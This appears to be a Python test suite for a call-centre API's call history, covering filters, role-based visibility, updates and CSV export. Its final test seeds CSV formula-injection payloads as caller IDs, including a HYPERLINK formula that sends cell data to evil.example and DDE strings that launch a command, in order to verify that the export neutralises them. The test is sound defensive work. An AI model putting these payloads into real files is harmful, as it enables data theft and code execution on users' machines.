"""/api/calls (seed 001, Звонки): history filters, pagination, exact totals (rollups + edges),
operator visibility, one call, create, update rules, CSV export, validation."""

from __future__ import annotations

import csv
import dataclasses
import io
import uuid
from datetime import UTC, datetime, timedelta
from typing import Any

import pytest_asyncio

from engine.model import CallStatus, call_id_for
from tests.stats_fixtures import World, make_call, write_calls

DAY = datetime(2021, 3, 1, tzinfo=UTC)
Q = "date_from=2021-03-01&date_to=2021-03-01"


@pytest_asyncio.fixture(loop_scope="session")
async def hist(world: World) -> World:
    pool = world.services.pool
    await pool.execute("DELETE FROM calls WHERE start_time >= $1 AND start_time < $2",
                       DAY, DAY + timedelta(days=1))
    own = str(await pool.fetchval(
        "SELECT o.id FROM operators o JOIN users u ON u.id = o.user_id"
        " WHERE u.username = 'r_operator'"))
    world.tokens["own_operator_id"] = own

    def at(h: int, m: int) -> datetime:
        return DAY + timedelta(hours=h, minutes=m)

    done, missed = CallStatus.COMPLETED, CallStatus.MISSED
    await write_calls(world.services, [
        make_call("h-1", at(9, 5), status=done, wait=10, talk=100, operator_id=world.op_a),
        make_call("h-2", at(9, 40), status=missed, wait=30),
        make_call("h-3", at(10, 15), status=done, wait=5, talk=20, operator_id=own),
        make_call("h-4", at(11, 30), status=done, wait=7, talk=70, operator_id=world.op_a),
        make_call("h-5", at(12, 0), status=missed, wait=3),
        make_call("h-6", at(12, 30), status=CallStatus.INCOMING, wait=0),
    ])
    return world


async def get(w: World, path: str, role: str = "admin") -> tuple[int, Any]:
    resp = await w.client.get(path, headers=w.auth(role))
    return resp.status, await resp.json()


def cid(tag: str) -> str:
    return call_id_for(tag)


async def test_history_page_shape_order_and_pagination(hist: World) -> None:
    status, body = await get(hist, f"/api/calls/?{Q}")
    assert status == 200, body
    assert body["total"] == 6 and body["page"] == 1 and body["pages"] == 1
    assert [i["id"] for i in body["items"]] == [cid(f"h-{n}") for n in (6, 5, 4, 3, 2, 1)]
    first = body["items"][-1]
    assert first["operator_name"] == "Opa"
    assert first["duration"] == 100 and first["status"] == "completed"
    assert first["start_time"] == "2021-03-01T09:05:00Z"
    status, body = await get(hist, f"/api/calls/?{Q}&skip=2&limit=2")
    assert (body["total"], body["page"], body["pages"]) == (6, 2, 3)
    assert [i["id"] for i in body["items"]] == [cid("h-4"), cid("h-3")]


async def test_history_filters_and_exact_totals(hist: World) -> None:
    cases = {
        f"{Q}&status=completed": ["h-4", "h-3", "h-1"],
        f"{Q}&status=incoming": ["h-6"],
        "status=missed&date_from=2021-03-01T09:30:00Z&date_to=2021-03-01T11:59:59Z": ["h-2"],
        f"{Q}&operator_id={hist.op_a}": ["h-4", "h-1"],
        f"operator_id={hist.op_a}&date_from=2021-03-01T09:10:00&date_to=2021-03-01": ["h-4"],
        "date_from=2021-03-01T09:05:00Z&date_to=2021-03-01T12:00:00Z":
            ["h-5", "h-4", "h-3", "h-2", "h-1"],
        "date_from=2021-03-01T10:00:00Z&date_to=2021-03-01T10:59:59Z": ["h-3"],
    }
    for query, tags in cases.items():
        status, body = await get(hist, f"/api/calls/?{query}")
        assert status == 200, (query, body)
        assert [i["id"] for i in body["items"]] == [cid(t) for t in tags], query
        assert body["total"] == len(tags), query


async def test_operator_sees_only_own_calls(hist: World) -> None:
    status, body = await get(hist, f"/api/calls/?{Q}", "operator")
    assert status == 200 and [i["id"] for i in body["items"]] == [cid("h-3")]
    assert body["total"] == 1
    status, body = await get(hist, f"/api/calls/?{Q}&operator_id={hist.op_a}", "operator")
    assert (status, body["total"], body["items"]) == (200, 0, [])
    status, body = await get(hist, f"/api/calls/{cid('h-3')}", "operator")
    assert status == 200 and body["id"] == cid("h-3")
    status, body = await get(hist, f"/api/calls/{cid('h-1')}", "operator")
    assert status == 403 and body["code"] == "AUTH_003"


async def test_one_call_and_404(hist: World) -> None:
    status, body = await get(hist, f"/api/calls/{cid('h-1')}", "supervisor")
    assert status == 200 and body["operator_id"] == hist.op_a
    for bad in (str(uuid.uuid4()), "not-a-uuid"):
        status, body = await get(hist, f"/api/calls/{bad}")
        assert status == 404 and body["code"] == "DB_002"


async def test_query_validation_is_422_in_query(hist: World) -> None:
    for query, field in (("limit=0", "limit"), ("limit=501", "limit"), ("skip=-1", "skip"),
                         ("status=bogus", "status"), ("date_from=yesterday-ish", "date_from"),
                         ("operator_id=12", "operator_id")):
        status, body = await get(hist, f"/api/calls/?{query}")
        assert status == 422, query
        assert body["detail"][0]["loc"] == ["query", field], query


async def test_create_call(hist: World) -> None:
    channel = f"api-{uuid.uuid4().hex[:8]}"
    payload = {"channel_id": channel, "caller_number": "+79001234567", "called_number": "1001",
               "queue_id": hist.queue, "status": "incoming"}
    resp = await hist.client.post("/api/calls/", json=payload, headers=hist.auth("operator"))
    assert resp.status == 403
    resp = await hist.client.post("/api/calls/", json=payload, headers=hist.auth("admin"))
    body = await resp.json()
    assert resp.status == 201, body
    assert body["id"] == call_id_for(channel) and body["queue_id"] == hist.queue
    assert body["status"] == "incoming" and body["queue_name"] == "q"
    resp = await hist.client.post("/api/calls/", json=payload, headers=hist.auth("admin"))
    assert resp.status == 409
    resp = await hist.client.post("/api/calls/", json={"caller_number": "1"},
                                  headers=hist.auth("admin"))
    assert resp.status == 422 and (await resp.json())["detail"][0]["loc"] == ["body",
                                                                            "channel_id"]
    resp = await hist.client.post(
        "/api/calls/", json={"channel_id": channel + "x", "queue_id": str(uuid.uuid4())},
        headers=hist.auth("admin"))
    assert resp.status == 422 and (await resp.json())["field"] == "queue_id"
    await hist.services.pool.execute("DELETE FROM calls WHERE channel_id LIKE $1", channel + "%")


async def test_update_rules(hist: World) -> None:
    async def put(call: str, body: dict[str, Any], role: str) -> tuple[int, Any]:
        resp = await hist.client.put(f"/api/calls/{cid(call)}", json=body,
                                     headers=hist.auth(role))
        return resp.status, await resp.json()

    status, body = await put("h-3", {"notes": "Клиент интересовался услугами"}, "operator")
    assert status == 200 and body["notes"] == "Клиент интересовался услугами"
    status, body = await put("h-3", {"status": "missed"}, "operator")
    assert status == 403 and body["code"] == "AUTH_003"
    status, _ = await put("h-1", {"notes": "not mine"}, "operator")
    assert status == 403
    status, _ = await put("h-1", {"notes": "x"}, "supervisor")
    assert status == 403
    status, body = await put("h-1", {"bogus": 1}, "admin")
    assert status == 422
    # an admin ends the ringing call: durations recomputed, and it is counted
    status, body = await put("h-6", {"status": "completed", "operator_id": hist.op_a,
                                     "answer_time": "2021-03-01T12:30:12Z",
                                     "end_time": "2021-03-01T12:31:12Z"}, "admin")
    assert status == 200, body
    assert (body["status"], body["duration"], body["wait_seconds"]) == ("completed", 60, 12)
    _, page = await get(hist, f"/api/calls/?{Q}&status=completed")
    assert page["total"] == 4
    _, page = await get(hist, f"/api/calls/?{Q}&operator_id={hist.op_a}")
    assert page["total"] == 3


async def test_export_csv_streams_filtered_rows(hist: World) -> None:
    resp = await hist.client.get(f"/api/calls/export?{Q}&status=completed",
                                 headers=hist.auth("manager"))
    assert resp.status == 200 and resp.headers["Content-Type"].startswith("text/csv")
    assert resp.headers.get("Transfer-Encoding") == "chunked"
    rows = list(csv.DictReader(io.StringIO(await resp.text())))
    assert [r["id"] for r in rows] == [cid("h-4"), cid("h-3"), cid("h-1")]
    assert rows[2]["duration"] == "100" and rows[2]["operator_name"] == "Opa"
    resp = await hist.client.get(f"/api/calls/export?{Q}", headers=hist.auth("operator"))
    rows = list(csv.DictReader(io.StringIO(await resp.text())))
    assert [r["id"] for r in rows] == [cid("h-3")]
    resp = await hist.client.get("/api/calls/export?limit=x&status=nope",
                                 headers=hist.auth("admin"))
    assert resp.status == 422


async def _g2_operator(w: World) -> str:
    """An operator in the other group (G2), created once."""
    from tests.helpers import ensure_user

    suffix = w.other_group[:6]
    user = await ensure_user(w.services, f"opg2_{suffix}", "operator",
                             extension=str(int(suffix, 16) % 999 + 9000),
                             group_id=w.other_group)
    return str(await w.services.pool.fetchval(
        "SELECT id FROM operators WHERE user_id = $1::uuid", user))


async def test_supervisor_of_a_group_sees_only_that_groups_calls(hist: World) -> None:
    """Issue 8 item 4: list, total, one call, export and update follow one definition."""
    g2 = await _g2_operator(hist)
    await write_calls(hist.services, [
        make_call("h-g2", DAY + timedelta(hours=13), status=CallStatus.COMPLETED, wait=4,
                  talk=30, operator_id=g2)])
    mine = [cid("h-4"), cid("h-1")]  # answered by op_a, in the supervisor's group

    status, body = await get(hist, f"/api/calls/?{Q}", "sup_group")
    assert status == 200, body
    assert [i["id"] for i in body["items"]] == mine and body["total"] == 2
    status, body = await get(hist, f"/api/calls/?{Q}&status=completed", "sup_group")
    assert [i["id"] for i in body["items"]] == mine and body["total"] == 2
    status, body = await get(hist, f"/api/calls/{cid('h-g2')}", "sup_group")
    assert status == 404 and body["code"] == "DB_002"
    status, body = await get(hist, f"/api/calls/{cid('h-1')}", "sup_group")
    assert status == 200 and body["id"] == cid("h-1")
    resp = await hist.client.get(f"/api/calls/export?{Q}", headers=hist.auth("sup_group"))
    rows = list(csv.DictReader(io.StringIO(await resp.text())))
    assert [r["id"] for r in rows] == mine
    # an unscoped reader still sees G2's call
    status, body = await get(hist, f"/api/calls/{cid('h-g2')}", "manager")
    assert status == 200
    await hist.services.pool.execute("DELETE FROM calls WHERE channel_id = 'h-g2'")


async def test_paging_by_page_and_size(hist: World) -> None:
    """Issue 8 item 10: page/size (and per_page) page; the envelope says the size."""
    seen = []
    for page in (1, 2, 3):
        status, body = await get(hist, f"/api/calls/?{Q}&page={page}&size=2")
        assert status == 200, body
        assert (body["page"], body["size"], body["pages"], body["total"]) == (page, 2, 3, 6)
        seen += [i["id"] for i in body["items"]]
    assert seen == [cid(f"h-{n}") for n in (6, 5, 4, 3, 2, 1)]
    status, body = await get(hist, f"/api/calls/?{Q}&page=2&per_page=4")
    assert [i["id"] for i in body["items"]] == [cid("h-2"), cid("h-1")]
    assert (body["page"], body["size"], body["pages"]) == (2, 4, 2)
    _, body = await get(hist, f"/api/calls/?{Q}")
    assert (body["page"], body["size"]) == (1, 50)
    for query, field in (("size=501", "size"), ("per_page=10000", "per_page"),
                         ("page=0", "page")):
        status, body = await get(hist, f"/api/calls/?{query}")
        assert status == 422 and body["detail"][0]["loc"] == ["query", field], query


async def test_export_neutralises_spreadsheet_formulas(hist: World) -> None:
    """OWASP CSV injection: a caller ID a spreadsheet would run is exported as text."""
    hostile = {"csv-1": '=HYPERLINK("http://evil.example/?x="&A1,"click")',
               "csv-2": "+1+cmd|' /C calc'!A0", "csv-3": "@SUM(1+1)*cmd|' /C calc'!A0",
               "csv-4": "-2+3", "csv-5": "\t=1+1", "csv-6": "+79001234567"}
    calls = []
    for n, (tag, caller) in enumerate(hostile.items()):
        call = make_call(tag, DAY + timedelta(hours=14, minutes=n), status=CallStatus.MISSED,
                         wait=5)
        calls.append(dataclasses.replace(call, caller_number=caller))
    await write_calls(hist.services, calls)
    try:
        resp = await hist.client.get(
            "/api/calls/export?date_from=2021-03-01T14:00:00Z&date_to=2021-03-01T14:59:00Z",
            headers=hist.auth("admin"))
        assert resp.status == 200
        rows = list(csv.DictReader(io.StringIO(await resp.text())))
        got = {r["channel_id"]: r["caller_number"] for r in rows}
        assert got == {tag: "'" + caller for tag, caller in hostile.items()}
        # the API itself keeps the caller ID as it came
        _, body = await get(hist, f"/api/calls/{cid('csv-1')}")
        assert body["caller_number"] == hostile["csv-1"]
    finally:
        await hist.services.pool.execute("DELETE FROM calls WHERE channel_id LIKE 'csv-%'")
